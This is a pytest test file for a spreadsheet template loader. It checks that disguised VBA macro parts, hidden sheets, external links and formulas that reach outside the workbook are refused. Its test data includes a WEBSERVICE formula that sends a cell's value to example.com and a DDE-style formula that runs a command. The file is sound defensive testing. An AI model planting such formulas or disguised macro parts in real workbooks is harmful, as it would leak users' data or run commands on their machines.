"""What runs or fetches in a template is found by what it is, not by what it is called."""

import zipfile

import openpyxl
import pytest
from openpyxl.formatting.rule import FormulaRule
from openpyxl.styles import PatternFill
from openpyxl.workbook.defined_name import DefinedName
from openpyxl.worksheet.datavalidation import DataValidation

from zhisheng.kit.sheets import open_template
from zhisheng.kit.sheets.errors import TemplateFormulaError, TemplatePartError

RED = PatternFill(bgColor="FF0000", fill_type="solid")
FETCH = 'WEBSERVICE("http://example.com/?"&A1)'
MACRO_TYPE = "application/vnd.ms-office.vbaProject"
MACRO_LINK = "http://schemas.microsoft.com/office/2006/relationships/vbaProject"


def save(tmp_path, change=None):
    book = openpyxl.Workbook()
    page = book.active
    page.append(["{{序号}}", "{{企业名称}}"])
    if change is not None:
        change(book, page)
    path = tmp_path / "template.xlsx"
    book.save(path)
    return path


def open_it(path):
    return open_template(path, singles=(), columns=("序号", "企业名称"))


def rewrite(path, part, old, new):
    with zipfile.ZipFile(path) as package:
        parts = {name: package.read(name) for name in package.namelist()}
    assert old in parts[part]
    parts[part] = parts[part].replace(old, new, 1)
    parts["xl/data.bin"] = b"\xd0\xcf\x11\xe0"
    with zipfile.ZipFile(path, "w") as package:
        for name, content in parts.items():
            package.writestr(name, content)


@pytest.mark.parametrize(
    ("part", "old", "new", "place"),
    [
        ("[Content_Types].xml", b"</Types>",
         f'<Override PartName="/xl/data.bin" ContentType="{MACRO_TYPE}"/></Types>',
         "vnd.ms-office.vbaProject"),
        ("[Content_Types].xml", b"openxmlformats-officedocument.spreadsheetml.sheet.main",
         "ms-excel.sheet.macroEnabled.main", "vnd.ms-excel.sheet.macroEnabled.main+xml"),
        ("xl/_rels/workbook.xml.rels", b"</Relationships>",
         f'<Relationship Id="r9" Type="{MACRO_LINK}" Target="data.bin"/></Relationships>',
         "vbaProject"),
    ],
)  # fmt: skip
def test_a_macro_under_another_name_is_refused(tmp_path, part, old, new, place):
    path = save(tmp_path)
    assert open_it(path).names == {"序号", "企业名称"}
    rewrite(path, part, old, new.encode())

    with pytest.raises(TemplatePartError) as refused:
        open_it(path)

    assert refused.value.fields == {"what": "宏", "place": place}


def colour(formula):
    def change(_book, page):
        page.conditional_formatting.add("A1:B1", FormulaRule([formula], fill=RED))

    return change


def offer(formula):
    def change(_book, page):
        rule = DataValidation(type="custom", formula1=formula)
        rule.add("B1")
        page.add_data_validation(rule)

    return change


@pytest.mark.parametrize(
    ("change", "cell"),
    [
        (colour(FETCH), "A1:B1"),
        (offer(FETCH), "B1"),
        (colour("cmd|' /c calc'!A0"), "A1:B1"),
        (offer("'[other.xlsx]Sheet1'!$A$1"), "B1"),
    ],
)
def test_a_formula_that_fetches_outside_of_cells_is_refused(tmp_path, change, cell):
    with pytest.raises(TemplateFormulaError) as refused:
        open_it(save(tmp_path, change))

    assert refused.value.fields == {"cell": cell}


@pytest.mark.parametrize(
    "change",
    [colour("MOD(ROW(),2)=0"), offer('AND(LEN(B1)>2,B1<>"WEBSERVICE(x)")')],
)
def test_what_only_compares_is_fit(tmp_path, change):
    assert open_it(save(tmp_path, change)).names == {"序号", "企业名称"}


def name_it(text):
    def change(book, _page):
        book.defined_names["取数"] = DefinedName("取数", attr_text=text)

    return change


def hide(book, _page):
    book.create_sheet("暗页").sheet_state = "veryHidden"


@pytest.mark.parametrize(
    ("change", "what", "place"),
    [
        (name_it(FETCH), "会运行或取外部数据的名称", "取数"),
        (name_it("[1]Sheet1!$A$1"), "会运行或取外部数据的名称", "取数"),
        (hide, "用菜单看不到的工作表", "暗页"),
    ],
)
def test_names_that_fetch_and_sheets_no_menu_shows_are_refused(
    tmp_path, change, what, place
):
    with pytest.raises(TemplatePartError) as refused:
        open_it(save(tmp_path, change))

    assert refused.value.fields == {"what": what, "place": place}


def test_a_name_of_cells_is_fit(tmp_path):
    assert open_it(save(tmp_path, name_it("Sheet!$A$1:$B$1"))).names
